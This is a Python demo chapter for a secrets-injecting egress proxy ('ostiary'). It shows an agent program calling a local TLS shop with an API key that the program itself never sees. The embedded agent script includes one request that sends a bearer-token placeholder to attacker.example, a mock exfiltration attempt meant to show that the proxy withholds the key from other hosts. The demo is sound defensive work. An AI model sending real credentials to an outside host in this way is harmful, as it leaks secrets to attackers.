"""The chapter about secrets: a program calls an API with a key that the program never gets."""

from __future__ import annotations

import ssl
import sys
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

from ostiary import ambient
from ostiary.demo.stage import Stage
from ostiary.demo.telling import below, chapter, draw, note, run, say, shell
from ostiary.protocol.errors import Conflict
from ostiary.proxy.egress import RunAuthority

KEYLESS = """import os, re, sys, urllib.error, urllib.request

def ask(url, **headers):
    try:
        with urllib.request.urlopen(urllib.request.Request(url, headers=headers)) as answer:
            return f"{answer.status} {answer.read().decode()}"
    except urllib.error.HTTPError as refusal:
        return f"{refusal.code} {refusal.reason}"

shop = sys.argv[1]
orders, echo = ask(f"{shop}/orders"), ask(f"{shop}/echo")
stolen = ask("http://attacker.example/", Authorization="Bearer OSTIARY:shop")
print("orders:", orders)
print("echo:", echo)
print("the placeholder to another server:", stolen)
seen = f"{os.environ} {sys.argv} {orders} {echo}"
print("a key is here" if re.search("sk-[0-9a-f]{24}", seen) else "no key in answers, environment and words")
"""
"""The program of the agent. It sends a placeholder to a server that does not own the key."""


def call_without_key(stage: Stage) -> None:
    """Run the chapter of the demo: the key is stored, put into the requests of a program, and removed from the
    answers.
    """
    chapter("An agent calls an API with a key that it never sees")
    key, program, authority = stage.folder / "key.txt", stage.folder / "buyer.py", stage.folder / "shop.pem"
    value = f"sk-{ambient.random(12).hex()}"
    program.write_text(KEYLESS)
    with selling(value, authority) as shop:
        key.write_text(value)
        run(stage, "secret", "put", "secret/agents/buyer/shop", f"api_key=@{key}")
        key.unlink()
        note("The key belongs to one server, and the proxy puts it into one header of the requests.")
        place = ("--header", "Authorization: Bearer {secret}", "--private")
        run(stage, "egress", "add", "shop", "--origin", shop, "--secret", "secret/agents/buyer/shop#api_key", *place)
        note("The program runs behind the proxy, and has no key.")
        options = ("run", "--egress", "--upstream-ca", str(authority), "--agent", "buyer", "--owner", "ada", "--quiet")
        shell(stage, *options, "--", "python", str(program), shop)
        printed = stage.output_of(*options, "--", sys.executable, str(program), shop)
    below(*printed.splitlines())
    if value in printed:
        raise Conflict("the program got the key")
    say("the shop got the key, and the program saw asterisks in its place")
    note("The server decided each use. The ledger names the request, and never the key.")
    draw(stage, "audit", "search", "--action", "vault.inject", wraps=True)
    note("Here both run as one user. As root, `run --user NAME` also hides the key of the proxy.")


@contextmanager
def selling(key: str, authority_file: Path) -> Iterator[str]:
    """Run a shop with TLS that knows `key`, for the duration of the block; yield its origin. `/echo` shows the
    `Authorization` of the request.
    """

    class Shop(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            shown = self.headers.get("Authorization", "")
            answer = shown if self.path == "/echo" else "two orders" if shown == f"Bearer {key}" else "who are you?"
            self.send_response(200)
            self.send_header("content-length", str(len(answer)))
            self.end_headers()
            self.wfile.write(answer.encode())

        def log_message(self, format: str, *args: object) -> None:
            """Suppress the log of requests."""

    authority = RunAuthority()
    authority_file.write_bytes(authority.pem)
    server = ThreadingHTTPServer(("127.0.0.1", 0), Shop)
    context: ssl.SSLContext = authority.context("localhost")
    server.socket = context.wrap_socket(server.socket, server_side=True)
    thread = threading.Thread(target=server.serve_forever, args=(0.05,), daemon=True)
    thread.start()
    try:
        yield f"https://localhost:{server.server_port}"
    finally:
        server.shutdown()
        server.server_close()
        thread.join()
